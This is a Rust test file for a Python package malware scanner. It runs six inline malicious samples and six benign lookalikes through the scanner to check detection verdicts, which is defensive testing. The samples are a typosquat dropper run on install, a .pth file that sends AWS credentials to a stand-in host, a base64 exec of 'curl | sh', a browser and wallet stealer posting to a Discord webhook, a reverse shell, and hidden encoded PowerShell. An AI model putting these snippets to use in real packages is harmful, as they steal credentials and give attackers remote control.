//! Six kinds of attack and six innocent lookalikes, whole packages, inspected.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::io::Cursor;

use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_verdict::{Behaviour, Report, Trigger, Verdict};

fn sdist(files: &[(&str, &str)]) -> Report {
    let mut builder = tar::Builder::new(Vec::new());
    let metadata = ("PKG-INFO", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\nSummary: a thing\n");
    for (name, text) in files.iter().chain([&metadata]) {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, format!("x-1.0/{name}"), text.as_bytes()).unwrap();
    }
    let bytes = builder.into_inner().unwrap();
    let context = Context { file_name: "x-1.0.tar".into(), sha256: None, kind: None };
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

#[track_caller]
fn malicious(files: &[(&str, &str)], behaviour: Behaviour, trigger: Trigger) {
    let report = sdist(files);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:#?}");
    assert!(report.behaviours.contains(&behaviour), "{:?}", report.behaviours);
    assert!(report.stages.iter().any(|stage| stage.trigger == Some(trigger)), "{:?}", report.stages);
}

#[track_caller]
fn clean(files: &[(&str, &str)]) {
    let report = sdist(files);
    assert_eq!((report.verdict, report.complete), (Verdict::Clean, true), "{report:#?}");
}

#[test]
fn a_typosquat_with_a_dropper_on_install() {
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n\
        class Post(install):\n    def run(self):\n        install.run(self)\n        \
        urllib.request.urlretrieve('http://x.example.invalid/a.exe', '/tmp/a.exe')\n        os.system('/tmp/a.exe')\n\
        setup(name='reqeusts', version='1.0', cmdclass={'install': Post})\n";
    malicious(&[("setup.py", setup)], Behaviour::IngressTransfer, Trigger::Install);
}

#[test]
fn a_stealer_in_a_pth() {
    let pth = "import os, requests; requests.post('http://x.example.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
    malicious(&[("x.pth", pth)], Behaviour::Exfiltration, Trigger::Startup);
}

#[test]
fn a_chain_of_base64_and_exec() {
    let code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJyk='))\n";
    malicious(&[("pkg/__init__.py", code)], Behaviour::Obfuscation, Trigger::Import);
}

#[test]
fn a_stealer_of_browsers_and_wallets_with_a_webhook() {
    let code = "import os, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz'\n\
        PATHS = [os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', os.getenv('APPDATA') + '\\\\Exodus\\\\exodus.wallet']\n\
        for path in PATHS:\n    requests.post(HOOK, files={'f': open(path, 'rb')})\n";
    malicious(&[("pkg/__init__.py", code)], Behaviour::BrowserWalletTheft, Trigger::Import);
}

#[test]
fn a_reverse_shell() {
    let code = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('x.example.invalid', 4444))\n\
        for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])\n";
    malicious(&[("setup.py", code)], Behaviour::CommandAndControl, Trigger::Install);
}

#[test]
fn encoded_powershell() {
    let code = "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHQAaABlAHIAZQA=')\n";
    malicious(&[("setup.py", code)], Behaviour::CommandExecution, Trigger::Install);
}

#[test]
fn a_tool_that_runs_commands_when_called() {
    let code = "import subprocess, sys\ndef main():\n    subprocess.run(['git', 'status'] + sys.argv[1:], check=True)\n";
    clean(&[("pkg/cli.py", code), ("pkg/__init__.py", "")]);
}

#[test]
fn a_web_client() {
    let code = "import os, requests\nclass Client:\n    def __init__(self):\n        self.token = os.environ['EXAMPLE_TOKEN']\n    \
        def create(self, item):\n        return requests.post('https://api.example.invalid/items', json=item, headers={'Authorization': self.token}).json()\n";
    clean(&[("pkg/__init__.py", code)]);
}

#[test]
fn a_package_with_a_c_build() {
    let code = "import subprocess\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\n\
        class Build(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '--build', '.'])\n        build_ext.run(self)\n\
        setup(name='x', ext_modules=[Extension('x', ['x.c'])], cmdclass={'build_ext': Build})\n";
    clean(&[("setup.py", code)]);
}

#[test]
fn telemetry_when_a_program_runs() {
    let code = "import platform, urllib.request\ndef ping():\n    urllib.request.urlopen('https://stats.example.invalid/?v=' + platform.python_version())\n";
    clean(&[("pkg/telemetry.py", code)]);
}

#[test]
fn assets_in_base64() {
    let code = "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')\n";
    clean(&[("pkg/assets.py", code)]);
}

#[test]
fn a_version_read_by_exec() {
    let code = "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x', version=__version__)\n";
    clean(&[("setup.py", code), ("pkg/version.py", "__version__ = '1.0'\n")]);
}

#[test]
fn what_is_no_archive_is_incomplete_never_clean() {
    let context = Context { file_name: "x-1.0.tar.gz".into(), sha256: None, kind: None };
    let report = inspect(Cursor::new(b"hello".to_vec()), &context, &Limits::for_testing());
    assert_eq!((report.verdict, report.complete), (Verdict::Incomplete, false));
}

#[test]
fn the_same_bytes_give_the_same_report() {
    let files = [("setup.py", "import os\nos.system('whoami')\n")];
    assert_eq!(sdist(&files), sdist(&files));
}
